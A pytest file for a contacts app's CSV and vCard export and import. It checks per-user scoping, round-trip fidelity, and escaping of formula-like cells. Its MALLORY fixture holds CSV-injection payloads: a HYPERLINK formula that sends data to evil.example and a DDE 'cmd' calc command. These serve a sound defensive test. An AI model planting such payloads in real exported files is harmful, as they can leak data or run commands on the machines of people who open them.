"""The user's contacts as a file to take elsewhere: CSV or vCard, only their own, and every
detail read back by the import (a round trip loses nothing). A cell a spreadsheet would run as
a formula is written as text."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx
import pytest

from tests.support.app import ApiUser, AppHarness

DETAILS = ("name", "emails", "company", "title", "phone", "timeZone", "notes", "cadence")
DANA = {
    "name": "Dana Scully",
    "emails": ["dana@acme.example", "dana@fbi.example"],
    "company": "Acme, Inc.",
    "title": 'Head of "Procurement"; EMEA',
    "phone": "+1 (555) 010-0100",
    "timeZone": "Europe/Berlin",
    "notes": "Met at SaaStr\nLikes tennis, =not a formula",
    "cadence": {"every": 2, "unit": "week"},
}
MALLORY = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "company": "@SUM(1+1)",
    "title": "-2+3+cmd|' /C calc'!A0",
}


def _add(user: ApiUser, **fields: Any) -> dict[str, Any]:
    made = user.api.post("/api/contacts", json=fields)
    assert made.status_code == 201, made.text
    return dict(made.json())


def _details(user: ApiUser) -> list[dict[str, Any]]:
    listed = user.api.get("/api/contacts", params={"limit": 200}).json()["items"]
    return sorted(({k: c[k] for k in DETAILS} for c in listed), key=lambda c: c["name"])


def _export(user: ApiUser, **params: Any) -> httpx.Response:
    answer = user.api.get("/api/contacts/export", params=params)
    assert answer.status_code == 200, answer.text
    return answer


@pytest.mark.parametrize("kind", ["csv", "vcard"])
def test_exported_contacts_import_again_whole(app: AppHarness, kind: str) -> None:
    alice, bob = app.user(), app.user("bob@example.com")
    _add(alice, **DANA)
    _add(alice, **MALLORY)
    archived = _add(alice, name="Old Friend")
    assert alice.api.delete(f"/api/contacts/{archived['id']}").status_code == 200
    _add(bob, name="Bob's Own")

    exported = _export(alice, format=kind)
    expected_type = "text/csv" if kind == "csv" else "text/vcard"
    assert exported.headers["content-type"].startswith(expected_type)
    assert exported.headers["content-disposition"].startswith("attachment")
    assert "Bob's Own" not in exported.text, "only the caller's contacts"
    assert "Old Friend" not in exported.text, "archived ones only when asked for"
    assert "Old Friend" in _export(alice, format=kind, archived="true").text

    imported = bob.api.post("/api/contacts/import", json={"format": kind, "content": exported.text})
    assert imported.status_code == 201, imported.text
    mine = [c for c in _details(bob) if c["name"] != "Bob's Own"]
    assert mine == _details(alice), "every detail read back"


def test_a_spreadsheet_shows_a_formula_like_cell_as_text(app: AppHarness) -> None:
    alice = app.user()
    _add(alice, **DANA)
    _add(alice, **MALLORY)
    rows = list(csv.DictReader(io.StringIO(_export(alice).text.removeprefix("\ufeff"))))
    mallory = next(r for r in rows if "HYPERLINK" in r["Name"])
    assert (mallory["Name"][0], mallory["Company"][0], mallory["Title"][0]) == ("'", "'", "'")
    dana = next(r for r in rows if r["Name"] == "Dana Scully")
    assert dana["Phone"] == "+1 (555) 010-0100", "a phone number stays as it is"
    assert dana["Cadence"] == "every 2 weeks"
    assert dana["Next touchpoint"], "the cadence planned one"


def test_an_export_names_a_format_it_does_not_know(app: AppHarness) -> None:
    alice = app.user()
    refused = alice.api.get("/api/contacts/export", params={"format": "xlsx"})
    assert refused.status_code == 422, refused.text
    assert refused.json()["error"]["details"]["field"] == "format"
    anonymous = httpx.get(f"{app.url}/api/contacts/export")
    assert anonymous.status_code == 401
